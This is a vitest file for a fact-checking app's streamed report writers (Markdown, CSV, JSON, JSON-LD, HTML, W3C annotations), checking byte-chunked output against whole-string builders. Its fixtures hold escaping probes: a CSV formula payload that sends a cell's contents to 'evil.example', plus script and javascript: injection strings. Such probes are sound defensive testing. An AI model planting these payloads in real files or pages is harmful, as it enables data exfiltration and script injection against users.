// Streamed reports: every format's writer (header, one piece per claim, footer) concatenates to
// exactly the whole-string builder's output, whatever the claims and however they are batched,
// and the pieces stay valid JSON/CSV once joined and cut into byte chunks at awkward places.
import { describe, expect, it } from 'vitest';
import { stringifyJsonLd } from '@/lib/text/json-ld';
import {
  RATINGS,
  annotationCollectionWriter,
  claimReviewWriter,
  htmlWriter,
  jsonWriter,
  markdownWriter,
  reportCsvWriter,
  reportHead,
  reportWriter,
  toAnnotationCollection,
  toClaimReview,
  toCsv,
  toHtmlReport,
  toJson,
  toMarkdown,
  toMarkdownSection,
  writeAll,
  type ChunkWriter,
  type ReportClaim,
  type ReportData,
  type StreamedReportFormat,
  type W3CAnnotationInput,
} from '@/lib/reports';

// Text that stresses each format: Markdown/HTML syntax, CSV formulas and separators, line
// breaks of every kind, quotes, characters outside the BMP (split across UTF-8 chunks below).
const TEXTS = [
  'Le « chômage » a baissé de 3 % en un an.',
  '=HYPERLINK("http://evil.example/?d="&A1,"x")',
  'Ligne un\nligne deux\r\n\r\nparagraphe *deux* [lien](javascript:alert(1))',
  '',
  '  - pas une liste\r# pas un titre',
  '<script>alert(1)</script> & "guillemets", virgule; point-virgule',
  'Émoji 🎉 et 𝔘 \u2028 séparateur',
];

function claim(i: number, rating = RATINGS[i % RATINGS.length]): ReportClaim {
  const text = TEXTS[i % TEXTS.length];
  return {
    sentenceId: `sen_${i}`,
    index: i * 2 + (i % 3),
    text,
    rating,
    rationale: TEXTS[(i + 3) % TEXTS.length],
    reviewer: { name: i % 4 === 0 ? '@Paul' : 'Léa' },
    reviewedAt: '2025-03-02T16:00:00.000Z',
    approver: i % 5 === 0 ? null : { name: 'Jean [Dupont]' },
    approvedAt: '2025-03-03T23:30:00.000Z',
    resolution: i % 6 === 0,
    sources: Array.from({ length: i % 3 }, (_, k) => ({
      url: k === 0 ? 'https://archives.example.org/a (b).pdf' : 'javascript:alert(1)',
      title: k === 0 ? 'Taux [T4]' : null,
      publisher: k === 0 ? 'Insee' : null,
      publishedAt: k === 0 ? '2025-02-14' : null,
      excerpt: k === 0 ? 'Le taux\nest de 7,3 %.' : null,
    })),
  };
}

function report(claims: ReportClaim[], patch: Partial<ReportData> = {}): ReportData {
  return {
    article: {
      id: 'art_1',
      title: 'Le « pacte » #1 : [décryptage]',
      language: 'fr',
      sourceUrl: 'https://news.example.fr/monde/pacte',
      publisher: 'Le Quotidien',
      partial: true,
      sentenceCount: 2 * claims.length + 5,
      author: 'Jeanne Plume',
      publishedAt: '2024-06-19',
      version: 2,
    },
    organization: 'Cellule vérif’',
    factCheckUrl: 'https://factdesk.example.org/articles/art_1',
    generatedAt: '2025-03-04T09:30:00.000Z',
    claims,
    agreement: { alpha: 0.7412, percentAgreement: 0.78, ratedSentences: 11, disputed: ['sen_1'] },
    revisions: [
      { version: 1, at: '2025-01-01T08:00:00.000Z', by: null, note: null },
      { version: 2, at: '2025-01-02T08:00:00.000Z', by: 'Éditrice', note: 'Coquille.' },
    ],
    recheck: ['sen_2'],
    ...patch,
  };
}

const REPORTS: [string, ReportData][] = [
  ['no claim', report([])],
  ['no claim, no agreement nor revisions', report([], { agreement: undefined, revisions: [] })],
  ['one claim', report([claim(1)])],
  ['many claims', report(Array.from({ length: 40 }, (_, i) => claim(i)))],
  ['only not_a_claim', report([claim(0, 'not_a_claim'), claim(1, 'not_a_claim')])],
  [
    'English article, first claim not_a_claim',
    report([claim(0, 'not_a_claim'), claim(1), claim(2)], {
      article: { ...report([]).article, language: 'en-GB', title: '', sourceUrl: null },
    }),
  ],
];

/** Whole-string output of each streamed format, as the server sent it before streaming. */
const WHOLE: Record<StreamedReportFormat, (data: ReportData) => string> = {
  markdown: toMarkdown,
  csv: toCsv,
  json: (data) => JSON.stringify(toJson(data), null, 2),
  // JSON-LD: escaped to be embeddable in a <script> (lib/text/json-ld.ts).
  claimreview: (data) => stringifyJsonLd(toClaimReview(data), 2),
  html: toHtmlReport,
};
const FORMATS = Object.keys(WHOLE) as StreamedReportFormat[];

/** The writer's pieces for `items` delivered in batches of the given sizes (cycled). */
function piecesInBatches<T>(writer: ChunkWriter<T>, items: T[], sizes: number[]): string[] {
  const pieces = [writer.start()];
  let i = 0;
  for (let b = 0; i < items.length; b++) {
    const batch = items.slice(i, i + sizes[b % sizes.length]);
    i += batch.length;
    for (const item of batch) pieces.push(writer.item(item));
  }
  pieces.push(writer.end());
  return pieces;
}

/**
 * Encodes the text, cuts the bytes every `step` bytes and decodes them back as a client does
 * (keeping the CSV's byte order mark, which a file download keeps too).
 */
function throughBytes(text: string, step: number): string {
  const bytes = new TextEncoder().encode(text);
  const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
  let out = '';
  for (let at = 0; at < bytes.length; at += step) {
    out += decoder.decode(bytes.subarray(at, at + step), { stream: true });
  }
  return out + decoder.decode();
}

/** Minimal RFC 4180 reader (quoted cells, CRLF records) to check the streamed CSV's shape. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  expect(quoted).toBe(false);
  expect(cell).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe('report writers', () => {
  for (const [name, data] of REPORTS) {
    for (const format of FORMATS) {
      it(`${format}, ${name}: the streamed pieces are the whole report`, () => {
        const whole = WHOLE[format](data);
        expect(writeAll(reportWriter(format, reportHead(data)), data.claims)).toBe(whole);
        for (const sizes of [[1], [3], [2, 5, 1], [250]]) {
          const pieces = piecesInBatches(
            reportWriter(format, reportHead(data)),
            data.claims,
            sizes,
          );
          expect(pieces.join('')).toBe(whole);
        }
      });
    }
  }

  it('each format has its own writer, reportWriter picks it', () => {
    const data = REPORTS[3][1];
    const head = reportHead(data);
    expect(writeAll(markdownWriter(head), data.claims)).toBe(toMarkdown(data));
    expect(writeAll(reportCsvWriter(head), data.claims)).toBe(toCsv(data));
    expect(writeAll(jsonWriter(head), data.claims)).toBe(WHOLE.json(data));
    expect(writeAll(claimReviewWriter(head), data.claims)).toBe(WHOLE.claimreview(data));
    expect(writeAll(htmlWriter(head), data.claims)).toBe(toHtmlReport(data));
  });

  it('keeps the options of the whole builders (language, time zone, nesting depth)', () => {
    const data = REPORTS[3][1];
    const head = reportHead(data);
    const options = { lang: 'en', timeZone: 'America/New_York' };
    expect(writeAll(markdownWriter(head, options), data.claims)).toBe(toMarkdown(data, options));
    expect(writeAll(htmlWriter(head, options), data.claims)).toBe(toHtmlReport(data, options));
    expect(writeAll(markdownWriter(head, options, 2), data.claims).trimEnd()).toBe(
      toMarkdownSection(data, options, 2),
    );
  });

  it('prints the header figures from the totals, not from the claims it has seen', () => {
    // The server counts the claims up front; the header must not wait for them.
    const data = REPORTS[3][1];
    const writer = jsonWriter(reportHead(data));
    const header = writer.start();
    expect(header).toContain(`"verifiedCount": ${data.claims.length}`);
    expect(header.endsWith('"claims": [')).toBe(true);
    const markdown = markdownWriter(reportHead(data)).start();
    expect(markdown).toContain('40 affirmations vérifiées sur 85 phrases');
    expect(markdown).not.toContain('## Phrase');
  });

  it('uses a fresh state per writer (the first claim never gets a comma)', () => {
    const data = REPORTS[2][1];
    const head = reportHead(data);
    expect(writeAll(jsonWriter(head), data.claims)).toBe(writeAll(jsonWriter(head), data.claims));
    expect(JSON.parse(writeAll(jsonWriter(head), data.claims))).toEqual(toJson(data));
  });

  for (const step of [1, 2, 3, 7, 4096]) {
    it(`stays valid JSON and CSV when cut every ${step} byte(s)`, () => {
      const data = REPORTS[3][1];
      const pieces = (format: StreamedReportFormat) =>
        piecesInBatches(reportWriter(format, reportHead(data)), data.claims, [3, 1, 2]).join('');

      const json = JSON.parse(throughBytes(pieces('json'), step)) as ReturnType<typeof toJson>;
      expect(json).toEqual(toJson(data));
      expect(json.claims.map((c) => c.sentenceId)).toEqual(data.claims.map((c) => c.sentenceId));

      const reviews = JSON.parse(throughBytes(pieces('claimreview'), step)) as unknown[];
      expect(reviews).toEqual(toClaimReview(data));

      const csv = throughBytes(pieces('csv'), step);
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(csv.slice(1));
      expect(rows).toHaveLength(1 + data.claims.length);
      expect(rows.slice(1).map((row) => row[0])).toEqual(
        data.claims.map((c) => String(c.index + 1)),
      );
    });
  }

  it('writes valid, empty JSON and a header-only CSV for a report without claims', () => {
    const data = REPORTS[0][1];
    const head = reportHead(data);
    expect(JSON.parse(writeAll(jsonWriter(head), [])).claims).toEqual([]);
    expect(writeAll(claimReviewWriter(head), [])).toBe('[]');
    expect(writeAll(claimReviewWriter(head), [claim(0, 'not_a_claim')])).toBe('[]');
    expect(parseCsv(writeAll(reportCsvWriter(head), []).slice(1))).toHaveLength(1);
  });
});

describe('W3C annotation collection writer', () => {
  const HEAD = {
    collectionId: 'https://factdesk.example.org/api/v1/articles/art_1/annotations?format=w3c',
    sourceUrl: 'https://factdesk.example.org/articles/art_1',
    annotationBaseUrl: 'https://factdesk.example.org/articles/art_1#annotation-',
    label: 'Le « pacte » "cité"',
    language: 'fr',
    noteLanguage: 'fr',
  };

  function inputs(n: number): W3CAnnotationInput[] {
    return Array.from({ length: n }, (_, i) => ({
      id: `ann ${i}/é`,
      note: [null, '  ', 'Note\n« citée » 🎉', '<script>alert(1)</script>'][i % 4],
      authorId: `0192d0c4-0000-7000-8000-${String(i).padStart(12, '0')}`,
      authorName: i % 2 ? 'Léa' : 'Jean <Dupont>',
      createdAt: '2025-03-02T16:00:00.000Z',
      selectors: [
        { type: 'TextQuoteSelector', exact: `mot ${i}`, prefix: 'avant ', suffix: '' },
        { type: 'TextPositionSelector', start: i * 10, end: i * 10 + 5 },
      ],
    }));
  }

  for (const n of [0, 1, 2, 25]) {
    it(`writes ${n} annotation(s) exactly as the whole collection`, () => {
      const annotations = inputs(n);
      const whole = stringifyJsonLd(toAnnotationCollection({ ...HEAD, annotations }));
      const writer = () => annotationCollectionWriter({ ...HEAD, total: n });
      expect(writeAll(writer(), annotations)).toBe(whole);
      for (const sizes of [[1], [4, 1]]) {
        const text = piecesInBatches(writer(), annotations, sizes).join('');
        expect(text).toBe(whole);
        expect(JSON.parse(throughBytes(text, 3))).toEqual(JSON.parse(whole));
      }
    });
  }
});
